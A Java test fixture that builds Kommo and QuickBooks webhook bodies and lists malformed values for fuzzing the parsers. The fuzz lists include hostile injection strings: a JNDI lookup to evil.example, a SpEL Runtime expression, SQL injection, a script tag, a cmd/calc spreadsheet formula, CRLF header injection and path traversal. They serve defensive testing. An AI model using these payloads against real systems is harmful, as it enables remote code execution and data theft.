package org.wonbooks.testing;

import java.util.List;

/** What {@link BadBodies} are made of: webhooks as they come, and values as nobody should send them. */
final class BadParts {

    private BadParts() {}

    static final String EVENT =
            """
            {"specversion":"1.0","id":"88cd52aa-33b6","source":"intuit.dsnBgbse","type":"qbo.payment.created.v1",\
            "datacontenttype":"application/json","time":"2026-09-20T15:00:01.123456789Z",\
            "intuitentityid":"301","intuitaccountid":"9341455000000001","data":{}}""";

    static final String NOTIFICATION =
            """
            {"eventNotifications":[{"realmId":"9341455000000001","dataChangeEvent":{"entities":[\
            {"name":"Payment","id":"301","operation":"Create","lastUpdated":"2026-01-05T14:42:19.000Z"},\
            {"name":"Invoice","id":"145","operation":"Update","lastUpdated":"2026-01-05T14:42:19-0700","deletedId":"5"}]}}]}""";

    static final String ACCOUNT = "account[subdomain]=acme&account[id]=32720107";

    static final String FULL = ACCOUNT
            + "&account[_links][self]=https://acme.kommo.com&leads[status][0][id]=%d&leads[status][0][name]=Website+redesign"
                    .formatted(4711)
            + "&leads[status][0][status_id]=142&leads[status][0][old_status_id]=67548607&leads[status][0][price]=1500"
            + "&leads[status][0][pipeline_id]=8572511&leads[status][0][account_id]=32720107"
            + "&leads[status][0][custom_fields][2][values][0]=1725915600"
            + "&leads[status][0][custom_fields][4][values][0][value][vat_id]=DE123";

    static final List<String> TRUE_ONES = List.of(
            FULL,
            FULL.replace("[", "%5B").replace("]", "%5D"),
            "leads[add][0][id]=4712&leads[add][0][status_id]=142&leads[add][1][id]=4713&" + ACCOUNT,
            "leads[update][0][id]=4714&leads[delete][0][id]=4714&leads[restore][0][id]=4714&" + ACCOUNT,
            "contacts[update][0][id]=5&contacts[update][0][name]=Zo%C3%AB&" + ACCOUNT,
            EVENT,
            "[" + EVENT + "," + EVENT.replace("payment.created", "invoice.updated") + "]",
            "[" + EVENT.replace("\"301\"", "302").replace("88cd", "99cd") + "]",
            NOTIFICATION,
            NOTIFICATION.replace("Payment", "Customer"));

    static final List<String> FORM_FIELDS = List.of(
            "leads",
            "leads[status]",
            "leads[status][0]",
            "leads[status][0][id]",
            "leads[status][0][status_id]",
            "leads[status][0][pipeline_id]",
            "leads[status][0][account_id]",
            "account",
            "account[id]",
            "account[subdomain]",
            "account[_links][self]");

    static final List<String> ODD_VALUES = List.of(
            "",
            "0",
            "-1",
            "-9223372036854775808",
            "9223372036854775807",
            "999999999999999999",
            "9999999999999999999999",
            "1.5",
            "1e9",
            "0x1F",
            "NaN",
            "+7",
            "%00",
            "7%00",
            "7%0d%0aX-Evil:+1",
            "%EF%BC%97",
            "%ED%A0%80",
            "%FF%FE",
            "true",
            "null",
            "[]",
            "../../admin",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime)}",
            "'+OR+'1'='1",
            "<script>alert(1)</script>",
            "=cmd|'/c+calc'!A1",
            "evil.example",
            "127.0.0.1:22/",
            "acme.kommo.com.evil.example",
            "x".repeat(10_000));

    static final List<String> JSON_FIELDS = List.of(
            "\"id\":\"88cd52aa-33b6\"",
            "\"type\":\"qbo.payment.created.v1\"",
            "\"time\":\"2026-09-20T15:00:01.123456789Z\"",
            "\"intuitentityid\":\"301\"",
            "\"intuitaccountid\":\"9341455000000001\"",
            "\"data\":{}",
            "\"realmId\":\"9341455000000001\"",
            "\"name\":\"Payment\"",
            "\"id\":\"301\"",
            "\"operation\":\"Create\"",
            "\"lastUpdated\":\"2026-01-05T14:42:19.000Z\"",
            "\"deletedId\":\"5\"");

    static final List<String> ODD_JSON = List.of(
            "null",
            "true",
            "{}",
            "[]",
            "[[[{}]]]",
            "{\"a\":{\"id\":1}}",
            "0",
            "-1",
            "1.5",
            "1e400",
            "1e-2147483648",
            "9223372036854775808",
            "9".repeat(100),
            "9".repeat(1001),
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"3\\u00001\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\r\\nX-Evil: 1\"",
            "\"-7\"",
            "\"99999999999999999999999999999999\"",
            "\"qbo:1:2\"",
            "\"../../admin?x=#\"",
            "\"1' OR '1'='1\"",
            "\"${jndi:ldap://evil.example/a}\"",
            "\"+999999999-12-31T23:59:59.999999999+18:00\"",
            "\"-999999999-01-01T00:00:00-18:00\"",
            "\"" + "x".repeat(10_000) + "\"");
}
